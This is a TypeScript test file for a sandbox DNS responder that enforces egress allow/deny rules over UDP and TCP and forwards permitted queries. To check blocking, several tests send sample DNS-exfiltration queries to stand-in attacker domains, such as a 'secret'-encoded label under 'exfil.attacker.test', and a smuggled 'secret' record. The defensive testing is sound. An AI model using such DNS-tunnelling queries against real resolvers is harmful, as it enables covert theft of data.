import { test, after } from 'node:test';
import assert from 'node:assert/strict';
import { createSocket } from 'node:dgram';
import { connect } from 'node:net';
import * as dnsPacket from 'dns-packet';
import fc from 'fast-check';
import { DnsResponder, type DnsQueryEvent } from '../../../src/sandbox/dns/dns-responder.js';
import {
  mapDnsUpstream,
  resolvConfServers,
  systemDnsUpstream,
  type DnsUpstream,
} from '../../../src/sandbox/dns/dns-upstream.js';
import { SecurityPolicy } from '../../../src/policy/security-policy.js';

const MAP = {
  'api.openai.com': ['198.19.1.2', 'fd65::2'],
  'pypi.org': '198.19.1.3',
  'example.net': '198.19.1.4',
};

/** An upstream that counts what reached it. */
function spy(inner: DnsUpstream): DnsUpstream & { names: string[] } {
  const names: string[] = [];
  return {
    names,
    async query(packet, o) {
      names.push(dnsPacket.decode(packet).questions?.[0]?.name ?? '');
      return inner.query(packet, o);
    },
  };
}

const responders: DnsResponder[] = [];
after(async () => {
  for (const r of responders) await r.close();
});

async function setup(network: Record<string, string[]>, upstream: DnsUpstream = mapDnsUpstream(MAP)) {
  const events: DnsQueryEvent[] = [];
  const up = spy(upstream);
  const dns = new DnsResponder({ upstream: up, onQuery: (e) => events.push(e) });
  responders.push(dns);
  const where = await dns.start();
  dns.addSession('127.0.0.1', { sandboxId: 'abcdefghij', policy: SecurityPolicy.fromJSON({ network }) });
  return { dns, where, events, up };
}

function udpAsk(
  port: number,
  name: string,
  type: dnsPacket.RecordType = 'A',
  extra: Partial<dnsPacket.Packet> = {},
) {
  return new Promise<dnsPacket.DecodedPacket>((resolve, reject) => {
    const sock = createSocket('udp4');
    const id = Math.floor(Math.random() * 65535);
    sock.on('message', (m) => {
      sock.close();
      resolve(dnsPacket.decode(m));
    });
    sock.on('error', reject);
    sock.send(
      dnsPacket.encode({
        type: 'query',
        id,
        flags: dnsPacket.RECURSION_DESIRED,
        questions: [{ type, name }],
        ...extra,
      }),
      port,
      '127.0.0.1',
    );
  });
}

function data(p: dnsPacket.DecodedPacket): string[] {
  return (p.answers ?? []).map((a) => String((a as { data?: unknown }).data));
}

function rcode(p: dnsPacket.DecodedPacket): string {
  return (p as unknown as { rcode: string }).rcode;
}

const RESTRICTED = { allow_out: ['*.openai.com', 'pypi.org'], deny_out: ['0.0.0.0/0'] };

test('an allowed name is answered with its addresses and the query is recorded', async () => {
  const { where, events } = await setup(RESTRICTED);
  const r = await udpAsk(where.port, 'API.OpenAI.com');
  assert.equal(rcode(r), 'NOERROR');
  assert.deepEqual(data(r), ['198.19.1.2']);
  assert.equal(events.at(-1)?.outcome, 'answered');
  assert.equal(events.at(-1)?.decision.rule, '*.openai.com');
  assert.equal(events.at(-1)?.sandboxId, 'abcdefghij');
});

test('with ALL_TRAFFIC denied, any other name gets NXDOMAIN without a single upstream query', async () => {
  const { where, events, up } = await setup(RESTRICTED);
  for (const type of ['A', 'AAAA', 'TXT', 'MX'] as const) {
    const r = await udpAsk(where.port, `c2VjcmV0.exfil.attacker.test`, type);
    assert.equal(rcode(r), 'NXDOMAIN', type);
    assert.deepEqual(r.answers, []);
  }
  assert.deepEqual(up.names, []);
  assert.ok(events.every((e) => e.outcome === 'blocked' && e.decision.reason === 'all_traffic_denied'));
});

test('a denied name gets NXDOMAIN for every record type, TXT included, whatever the label holds', async () => {
  const { where, up } = await setup({ allow_out: [], deny_out: ['*.evil.test'] });
  const label = fc.stringMatching(/^[a-z0-9-]{1,40}$/).filter((l) => !l.startsWith('-') && !l.endsWith('-'));
  const type = fc.constantFrom<dnsPacket.RecordType>('A', 'AAAA', 'TXT', 'CNAME', 'NULL', 'SRV');
  await fc.assert(
    fc.asyncProperty(label, type, async (l, t) => {
      const r = await udpAsk(where.port, `${l}.evil.test`, t);
      assert.equal(rcode(r), 'NXDOMAIN');
    }),
    { numRuns: 60 },
  );
  assert.deepEqual(up.names, []);
  // Names outside the deny rule are forwarded (open egress otherwise).
  assert.equal(rcode(await udpAsk(where.port, 'example.net')), 'NOERROR');
  assert.deepEqual(up.names, ['example.net']);
});

test('queries from an address that is not a sandbox are refused', async () => {
  const { dns, where, up } = await setup({});
  dns.removeSession('127.0.0.1');
  assert.equal(rcode(await udpAsk(where.port, 'pypi.org')), 'REFUSED');
  assert.deepEqual(up.names, []);
});

test('DNS over TCP is answered under the same policy', async () => {
  const { where } = await setup(RESTRICTED);
  const ask = (name: string) =>
    new Promise<dnsPacket.DecodedPacket>((resolve, reject) => {
      const s = connect(where.port, '127.0.0.1');
      let buf = Buffer.alloc(0);
      s.on('connect', () =>
        s.write(dnsPacket.streamEncode({ type: 'query', id: 7, questions: [{ type: 'A', name }] })),
      );
      s.on('data', (d: Buffer) => {
        buf = Buffer.concat([buf, d]);
        if (buf.length >= 2 && buf.length >= 2 + buf.readUInt16BE(0)) {
          s.destroy();
          resolve(dnsPacket.decode(buf.subarray(2)));
        }
      });
      s.on('error', reject);
    });
  assert.deepEqual(data(await ask('pypi.org')), ['198.19.1.3']);
  assert.equal(rcode(await ask('leak.attacker.test')), 'NXDOMAIN');
});

test('an upstream failure is a SERVFAIL, never a hang', async () => {
  const failing: DnsUpstream = { query: async () => Promise.reject(new Error('down')) };
  const { where, events } = await setup({}, failing);
  assert.equal(rcode(await udpAsk(where.port, 'pypi.org')), 'SERVFAIL');
  assert.equal(events.at(-1)?.outcome, 'failed');
});

test('forwarding to the host resolver sends only the question: extra records the sandbox added never arrive', async () => {
  const fake = createSocket('udp4');
  const seen: dnsPacket.DecodedPacket[] = [];
  fake.on('message', (m, from) => {
    const q = dnsPacket.decode(m);
    seen.push(q);
    fake.send(
      dnsPacket.encode({
        type: 'response',
        id: q.id,
        flags: dnsPacket.RECURSION_AVAILABLE,
        questions: q.questions,
        answers: [{ type: 'TXT', name: q.questions?.[0]?.name ?? '', data: 'v=spf1 -all' }],
      }),
      from.port,
      from.address,
    );
  });
  await new Promise<void>((r) => fake.bind(0, '127.0.0.1', r));
  try {
    const upstream = systemDnsUpstream({ servers: ['127.0.0.1'], port: fake.address().port });
    const { where } = await setup({}, upstream);
    const r = await udpAsk(where.port, 'example.net', 'TXT', {
      additionals: [{ type: 'TXT', name: 'smuggled.example', data: 'secret' }],
    });
    assert.equal(rcode(r), 'NOERROR');
    assert.equal(data(r)[0], 'v=spf1 -all');
    assert.equal(seen.length, 1);
    assert.deepEqual(seen[0]?.additionals, [], 'extra records never reach the host resolver');
  } finally {
    fake.close();
  }
});

test('resolv.conf parsing keeps only IP nameservers, in order', () => {
  assert.deepEqual(
    resolvConfServers(
      '# c\nsearch x\nnameserver 10.0.0.53\nnameserver fe80::1%eth0\nnameserver bogus\nnameserver ::1\n',
    ),
    ['10.0.0.53', 'fe80::1%eth0', '::1'],
  );
});
